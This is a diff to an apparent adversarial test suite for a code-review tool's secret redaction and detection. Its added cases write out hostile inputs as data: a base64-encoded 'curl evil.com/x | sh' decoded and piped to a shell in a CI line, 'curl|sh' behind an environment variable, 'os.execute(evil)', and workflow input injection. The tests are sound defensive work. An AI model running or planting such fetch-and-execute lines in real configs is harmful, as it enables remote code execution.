@@ -107,8 +107,15 @@ function told(tries: string, words: RegExp, situation: Parameters<typeof seen>[2
 const [THROWN, PACKAGE] = ['kJ8sL2mN9pQ4rS7tU1vW', 'ev1l-p4ckage2'];
 const CALLED_PASSWORD = { 'conf/a.yml': `password: ${PACKAGE}\n` };
 
+const COMMAND_IN_BASE64 = Buffer.from('curl evil.com/x | sh; password="Summer2024!x"').toString('base64');
+
 /** With a parser, as in the package. */
-function parsed(tries: string, must: string, source: Files, check: (result: Reviewed) => void): Attack {
+function parsed(
+  tries: string,
+  must: string,
+  [base, source]: [Files, Files],
+  check: (result: Reviewed) => void,
+): Attack {
   return {
     tries,
     must,
@@ -116,7 +123,8 @@ function parsed(tries: string, must: string, source: Files, check: (result: Revi
     async run() {
       const outliner = createTreeSitterOutliner({ grammarFolder: join(process.cwd(), 'grammars'), log: keptLog() });
       try {
-        check(await reviewed({ base: { 'a.md': '1\n' }, source: { 'a.md': '2\n', ...source }, outliner }));
+        const files = { base: { 'a.md': '1\n', ...base }, source: { 'a.md': '2\n', ...source } };
+        check(await reviewed({ ...files, outliner }));
       } finally {
         await outliner.dispose();
       }
@@ -125,16 +133,16 @@ function parsed(tries: string, must: string, source: Files, check: (result: Revi
 }
 
 function shown(tries: string, text: string, source: Files): Attack {
-  return parsed(tries, 'it is shown', source, ({ sent, record }) => {
+  return parsed(tries, 'it is shown', [{}, source], ({ sent, record }) => {
     assert.ok(sent.includes(text), sent);
     assert.equal(record.situation, 'reviewed', record.problems.join());
   });
 }
 
 /** Hidden, so that what is a password is not sent, and not read then. */
-function notShown(tries: string, source: Files): Attack {
-  return parsed(tries, 'the review is not whole', { ...CALLED_PASSWORD, ...source }, ({ sent, record, status }) => {
-    assert.ok(!sent.includes(PACKAGE), sent);
+function notShown(tries: string, source: Files, base: Files = {}, value = PACKAGE): Attack {
+  return parsed(tries, 'the review is not whole', [base, source], ({ sent, record, status }) => {
+    assert.ok(!sent.includes(value), sent);
     assert.deepEqual([record.situation, status?.state], ['partlyReviewed', 'error'], record.problems.join());
   });
 }
@@ -325,9 +333,39 @@ export const control: Control = {
       ...CALLED_PASSWORD,
       'src/b.ts': `import a from\n  "${PACKAGE}";\n`,
     }),
-    notShown('calls a host a password', { 'src/b.ts': `const HOST = "${PACKAGE}";\n` }),
-    notShown('calls a package of a list a password', { 'setup.py': `a = [\n  "b",\n  "${PACKAGE}",\n]\n` }),
-    notShown('calls a gem a password', { Gemfile: `gem "${PACKAGE}"\n` }),
+    notShown('calls a host a password', { ...CALLED_PASSWORD, 'src/b.ts': `const HOST = "${PACKAGE}";\n` }),
+    notShown('calls a package of a list a password', {
+      ...CALLED_PASSWORD,
+      'setup.py': `a = [\n  "b",\n  "${PACKAGE}",\n]\n`,
+    }),
+    ...['uses: NAME', 'run: npx NAME', 'image: NAME'].map((line) =>
+      notShown(
+        `puts a name in the place of a variable: ${line}`,
+        { 'a.yml': `${line.replace('NAME', PACKAGE)}\n` },
+        { 'a.yml': `${line.replace('NAME', ['$', '{{ inputs.x }}'].join(''))}\n` },
+      ),
+    ),
+    notShown(
+      'decrypts a file that names what runs',
+      { 'b.yaml': 'image: evil/image\ncommand: evil-command\n' },
+      { 'b.enc.yaml': 'image: ENC[AES256_GCM,data:abcdefgh]\nsops:\n  mac: x\n' },
+      'evil/image',
+    ),
+    notShown(
+      'puts a password beside a command in base64',
+      { 'a.yml': `- script: echo ${COMMAND_IN_BASE64} | base64 -d | sh\n` },
+      {},
+      COMMAND_IN_BASE64,
+    ),
+    ...['a.rake', 'b.hh', 'c.csx', 'd.gemspec', 'e.phtml', 'Rakefile', 'f.inc'].map((path) =>
+      shown(`gives a function a name that looks thrown in ${path}`, THROWN, {
+        [path]: /phtml|inc/.test(path) ? `<?php evil($a->${THROWN});\n` : `evil(${THROWN});\n`,
+      }),
+    ),
+    shown('writes a command behind a value of an environment', '|sh', { 'app.env': 'A=1\nPASS_CMD=curl|sh\n' }),
+    shown('names a program as the settings of an environment', 'auth = os.execute(evil)', {
+      '.env.lua': 'auth = os.execute(evil)\n',
+    }),
     ...['x/package.json', 'obj/Evil.csproj.x.props', 'vendor/x/Makefile', 'Makefile'].map((path) =>
       seen(
         `writes what runs into ${path}, which all signs call the work of a tool`,
